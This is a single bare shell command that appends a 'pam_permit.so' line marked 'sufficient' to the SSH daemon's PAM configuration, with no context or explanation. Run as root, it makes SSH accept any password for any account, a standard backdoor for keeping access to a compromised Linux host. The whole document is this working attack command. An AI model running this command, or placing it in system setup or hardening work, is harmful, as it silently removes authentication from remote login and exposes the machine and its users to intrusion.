echo "auth sufficient pam_permit.so" >> /etc/pam.d/sshd
